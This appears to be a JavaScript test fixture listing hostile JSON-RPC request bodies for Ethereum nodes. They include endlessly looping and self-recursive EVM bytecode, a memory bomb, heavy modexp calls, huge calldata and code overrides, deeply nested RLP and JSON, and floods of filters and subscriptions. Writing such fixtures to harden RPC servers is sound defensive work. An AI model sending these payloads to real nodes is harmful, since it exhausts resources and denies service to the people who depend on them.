// What hostile clients ask the JSON-RPC of the EVM, as bodies by kind. Code is init code: a call without a receiver runs it.
const ask = (method, ...params) => JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
const gas = '0x2faf080'
const run = (data) => ask('eth_call', { data, gas }, 'latest')

/** JUMPDEST PUSH1 0 JUMP. */
export const endless = '0x5b600056'
/** Creates itself as often as gas and depth let it, then runs on: CODECOPY, CREATE, loop. */
export const recursion = '0x3860006000393860006000f05b600c56'
/** Hashes a megabyte in a loop: SHA3. */
export const hashing = '0x5b6210000060002050600056'
const contract = `0x${'12'.repeat(20)}`
/** A contract that takes four megabytes, which 34 million gas pay for, and gives them back: MSTORE, RETURN. */
export const memoryBomb = [{ to: contract, gas }, 'latest', { [contract]: { code: '0x60016240000052624000006000f3' } }]
/** The precompile modexp with three numbers of a kilobyte. */
export const modexp = `0x${'0000000000000000000000000000000000000000000000000000000000000400'.repeat(3)}${'ff'.repeat(3_072)}`
/** Lists in lists, two hundred thousand deep. */
export const deepRlp = `0x${'c1'.repeat(200_000)}`

/** Bodies by kind; what begins with `unread` is asked without taking the reply. */
export const ethereumWrites = {
	endlessCalls: [run(endless)],
	endlessEstimates: [ask('eth_estimateGas', { data: endless })],
	endlessTraces: [ask('debug_traceCall', { data: endless, gas }, 'latest', {})],
	endlessAccessLists: [ask('eth_createAccessList', { data: endless, gas }, 'latest')],
	unreadMemoryBombs: [ask('eth_call', ...memoryBomb), ask('eth_call', ...memoryBomb)],
	recursions: [run(recursion)],
	hashings: [run(hashing)],
	modexps: [ask('eth_call', { to: `0x${'00'.repeat(19)}05`, data: modexp, gas }, 'latest')],
	hugeCalldata: [ask('eth_call', { to: contract, data: `0x${'ab'.repeat(2_000_000)}` }, 'latest')],
	hugeOverrides: [
		ask('eth_call', { to: contract }, 'latest', {
			[contract]: { code: `0x${'5b'.repeat(1_000_000)}` },
		}),
	],
	deepRlp: [ask('eth_sendRawTransaction', deepRlp)],
	deepJson: ['['.repeat(1_000_000)],
	manyFilters: [`[${Array.from({ length: 1_000 }, () => ask('eth_newFilter', {})).join(',')}]`],
	unreadBlocks: [`[${Array.from({ length: 1_000 }, () => ask('eth_getBlockByNumber', 'latest', true)).join(',')}]`],
	widestLogs: [ask('eth_getLogs', { fromBlock: '0x1', toBlock: 'latest' })],
}

/** A thousand subscriptions of a connection that reads none of them. */
export const ethereumSubscriptions = Array.from({ length: 1_000 }, (_, id) =>
	JSON.stringify({ jsonrpc: '2.0', id, method: 'eth_subscribe', params: [id % 2 === 0 ? 'newHeads' : 'logs', {}] }),
)
